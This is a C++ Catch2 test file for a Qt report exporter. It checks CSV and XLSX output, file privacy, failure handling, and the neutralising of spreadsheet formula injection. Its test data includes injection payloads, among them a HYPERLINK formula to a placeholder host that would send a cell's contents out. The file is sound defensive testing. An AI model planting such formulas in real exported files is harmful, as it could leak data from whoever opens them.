#include "importing/xlsxreader.h"
#include "importing/ziparchive.h"
#include "storage/privatefile.h"
#include "support/testsupport.h"
#include "test_report_outputs_samples.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QProcess>
#include <QStandardPaths>
#include <QTemporaryDir>

using namespace capacita;
using namespace capacita::reports;
using namespace capacita::test;
using namespace Qt::StringLiterals;

namespace {

QStringList csvLines(const QByteArray &bytes)
{
    REQUIRE(bytes.startsWith("\xEF\xBB\xBF"));
    QStringList lines = QString::fromUtf8(bytes.mid(3)).split(u"\r\n"_s);
    REQUIRE(lines.last().isEmpty()); // every line ends in CRLF
    lines.removeLast();
    return lines;
}

QByteArray readWholeFileForTest(const QString &path)
{
    auto bytes = readWholeFile(path, 64 * 1024 * 1024);
    REQUIRE(bytes.ok());
    return *bytes;
}

QByteArray xlsxPartForTest(const QByteArray &xlsx, const QString &part)
{
    auto zip = ZipArchive::open(xlsx);
    REQUIRE(zip.ok());
    auto bytes = (*zip)->read(part, 64 * 1024 * 1024);
    REQUIRE(bytes.ok());
    return *bytes;
}

bool isPrivate(const QString &path)
{
    return QFileInfo(path).permissions()
        == (QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ReadUser | QFileDevice::WriteUser);
}

} // namespace

TEST_CASE("report outputs - text that a spreadsheet would run is neutralised", "[reports][outputs]")
{
    CHECK(neutralizeCell(u"=HYPERLINK(\"x\")"_s) == u"'=HYPERLINK(\"x\")"_s);
    CHECK(neutralizeCell(u"+1"_s) == u"'+1"_s);
    CHECK(neutralizeCell(u"-2+3"_s) == u"'-2+3"_s);
    CHECK(neutralizeCell(u"@SUM(A1)"_s) == u"'@SUM(A1)"_s);
    CHECK(neutralizeCell(u"\tx"_s) == u"'\tx"_s);
    CHECK(neutralizeCell(u"\rx"_s) == u"'\rx"_s);
    // Harmless text stays as it was.
    CHECK(neutralizeCell(u"a=b"_s) == u"a=b"_s);
    CHECK(neutralizeCell(u"María Ñahui"_s) == u"María Ñahui"_s);
    CHECK(neutralizeCell(u"08123456"_s) == u"08123456"_s);
    CHECK(neutralizeCell(u" espacio"_s) == u" espacio"_s);
    CHECK(neutralizeCell(QString()).isEmpty());
}

TEST_CASE("report outputs - CSV of one table is its header and rows with a BOM", "[reports][outputs][csv]")
{
    const QStringList lines = csvLines(csvBytes({ attackTable() }));
    REQUIRE(lines.size() == 11);
    CHECK(lines.at(0) == u"Nombre,'=Valor"_s);
    CHECK(lines.at(1) == u"\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"clic\"\")\",1"_s);
    CHECK(lines.at(2) == u"'+1,2"_s);
    CHECK(lines.at(3) == u"'-2+3,-3"_s); // the text is neutralised, the negative number is not
    CHECK(lines.at(4) == u"'@SUM(A1:A9),2.5"_s);
    CHECK(lines.at(5) == u"'\tx,5"_s);
    CHECK(lines.at(6) == u"\"'\rx\",6"_s);
    CHECK(lines.at(7) == u"\"María Ñahui, \"\"La Flaca\"\"\",7"_s);
    CHECK(lines.at(8) == u"a=b,8"_s);
    CHECK(lines.at(9) == u"08123456,9"_s);
    CHECK(lines.at(10) == u"\" espacio\",10"_s);
}

TEST_CASE("report outputs - CSV of several tables is the long format", "[reports][outputs][csv]")
{
    ReportTable sex;
    sex.id = u"by_sex"_s;
    sex.columnIds = { u"key"_s, u"count"_s };
    sex.headers = { u"Sexo"_s, u"Personas"_s };
    sex.rows = { { u"F"_s, qint64(12) }, { u"M"_s, qint64(7) } };
    const QStringList lines = csvLines(csvBytes({ sex, sampleTable() }));
    REQUIRE(lines.size() == 1 + 2 + 4 * 2);
    CHECK(lines.at(0) == u"table,row,key,column,value"_s);
    CHECK(lines.at(1) == u"by_sex,1,F,count,12"_s);
    CHECK(lines.at(2) == u"by_sex,2,M,count,7"_s);
    CHECK(lines.at(3) == u"by_department,1,Cusco,count,12"_s);
    CHECK(lines.at(4) == u"by_department,1,Cusco,share,0.5"_s);
    CHECK(lines.at(5) == u"by_department,2,Huánuco,count,1234567"_s);
    CHECK(lines.at(8) == u"by_department,3,Madre de Dios,share,0"_s);
    CHECK(lines.at(10) == u"by_department,4,unknown,share,0.3333333333333333"_s); // full precision
}

TEST_CASE("report outputs - CSV is written private, and a bad path leaves nothing", "[reports][outputs][csv]")
{
    QTemporaryDir dir;
    const QString path = dir.filePath(u"informe.csv"_s);
    REQUIRE(writeCsv({ sampleTable() }, path).ok());
    QFile file(path);
    REQUIRE(file.open(QIODevice::ReadOnly));
    CHECK(file.readAll() == csvBytes({ sampleTable() }));
    CHECK(isPrivate(path));

    const QString missing = dir.filePath(u"no-such-folder/informe.csv"_s);
    const Status failed = writeCsv({ sampleTable() }, missing);
    REQUIRE_FALSE(failed.ok());
    CHECK(failed.error().code == ErrorCode::Io);
    CHECK(failed.error().message.contains(missing));
    CHECK_FALSE(QFileInfo::exists(missing));

    const QString underFile = path + u"/informe.csv"_s; // a file where a folder should be
    CHECK(writeCsv({ sampleTable() }, underFile).error().code == ErrorCode::Io);
    CHECK(QDir(dir.path()).entryList(QDir::Files | QDir::Hidden) == QStringList { u"informe.csv"_s });
}

TEST_CASE("report outputs - XLSX round-trips through the roster reader", "[reports][outputs][xlsx]")
{
    QTemporaryDir dir;
    const QString path = dir.filePath(u"informe.xlsx"_s);
    const QList<Definition> definitions { { u"Persona capacitada"_s, u"Participante distinto con una participación completa."_s } };
    REQUIRE(writeXlsx({ sampleTable(), attackTable(), sampleTable(u"by_department_2"_s) }, definitions, path).ok());
    CHECK(isPrivate(path));

    const QByteArray bytes = readWholeFileForTest(path);
    auto names = xlsxreader::sheetNames(bytes);
    REQUIRE(names.ok());
    // Titles become valid sheet names: at most 31 characters, none of []:*?/\, unique.
    REQUIRE(names->size() == 4);
    CHECK(names->at(0) == u"Personas capacitadas por depart"_s);
    CHECK(names->at(1) == u"Participantes evidencia lista c"_s);
    CHECK(names->at(2) == u"Personas capacitadas por de (2)"_s);
    CHECK(names->at(3) == u"Definitions"_s);
    for (const QString &name : *names)
        CHECK(name.size() <= 31);

    auto table = xlsxreader::parse(bytes, names->at(0));
    REQUIRE(table.ok());
    CHECK(table->header == QStringList { u"Departamento"_s, u"Personas"_s, u"Proporción"_s });
    REQUIRE(table->records.size() == 5); // four rows, then the note
    const ReportTable sample = sampleTable();
    for (int r = 0; r < 4; ++r) {
        const RosterRecord &record = table->records.at(r);
        CHECK(record.cell(0).text == sample.rows.at(r).at(0).toString());
        REQUIRE(record.cell(1).numeric); // numbers are numbers, not text
        CHECK(record.cell(1).number == sample.rows.at(r).at(1).toDouble());
        REQUIRE(record.cell(2).numeric);
        CHECK(record.cell(2).number == sample.rows.at(r).at(2).toDouble()); // full precision kept
    }
    CHECK(table->records.at(4).cell(0).text == sample.note);

    auto attacks = xlsxreader::parse(bytes, names->at(1));
    REQUIRE(attacks.ok());
    CHECK(attacks->header.at(1) == u"'=Valor"_s);
    CHECK(attacks->records.at(0).cell(0).text == u"'=HYPERLINK(\"http://x.example/?\"&A1,\"clic\")"_s);
    CHECK(attacks->records.at(2).cell(0).text == u"'-2+3"_s);
    CHECK(attacks->records.at(2).cell(1).number == -3);
    CHECK(attacks->records.at(6).cell(0).text == u"María Ñahui, \"La Flaca\""_s);
    CHECK(attacks->records.at(8).cell(0).text == u"08123456"_s);
    CHECK_FALSE(attacks->records.at(8).cell(0).numeric);

    auto defs = xlsxreader::parse(bytes, u"Definitions"_s);
    REQUIRE(defs.ok());
    REQUIRE(defs->records.size() == 1);
    CHECK(defs->records.at(0).cell(1).text == definitions.at(0).explanation);
}

TEST_CASE("report outputs - XLSX sheets have a frozen header and widths", "[reports][outputs][xlsx]")
{
    QTemporaryDir dir;
    const QString path = dir.filePath(u"informe.xlsx"_s);
    REQUIRE(writeXlsx({ sampleTable() }, {}, path).ok());
    const QByteArray bytes = readWholeFileForTest(path);
    const QByteArray sheet = xlsxPartForTest(bytes, u"xl/worksheets/sheet1.xml"_s);
    CHECK(sheet.contains("state=\"frozen\""));
    CHECK(sheet.contains("ySplit=\"1\""));
    CHECK(sheet.contains("customWidth=\"1\""));
}

TEST_CASE("report outputs - a failed XLSX leaves the earlier file as it was", "[reports][outputs][xlsx]")
{
    QTemporaryDir dir;
    const QString missing = dir.filePath(u"no-such-folder/informe.xlsx"_s);
    const Status failed = writeXlsx({ sampleTable() }, {}, missing);
    REQUIRE_FALSE(failed.ok());
    CHECK(failed.error().code == ErrorCode::Io);
    CHECK(failed.error().message.contains(missing));
    CHECK_FALSE(QFileInfo::exists(missing));

    // A path that is a folder cannot be replaced: the folder and its content stay.
    const QString folder = dir.filePath(u"carpeta"_s);
    REQUIRE(QDir().mkpath(folder + u"/dentro"_s));
    CHECK_FALSE(writeXlsx({ sampleTable() }, {}, folder).ok());
    CHECK(QFileInfo(folder + u"/dentro"_s).isDir());
}

TEST_CASE("report outputs - XLSX opens in LibreOffice when it is installed", "[reports][outputs][xlsx]")
{
    const QString office = QStandardPaths::findExecutable(u"libreoffice"_s);
    QTemporaryDir dir;
    const QString path = dir.filePath(u"informe.xlsx"_s);
    REQUIRE(writeXlsx({ sampleTable(), attackTable() }, {}, path).ok());
    if (office.isEmpty()) {
        // Without LibreOffice the round trip above is the check; the file must at least exist.
        CHECK(QFileInfo(path).size() > 0);
        return;
    }
    QProcess process;
    process.start(office, { u"--headless"_s, u"--convert-to"_s, u"csv"_s, u"--outdir"_s, dir.path(), path });
    REQUIRE(process.waitForFinished(120'000));
    CHECK(process.exitCode() == 0);
    CHECK(QFileInfo(dir.filePath(u"informe.csv"_s)).size() > 0);
}
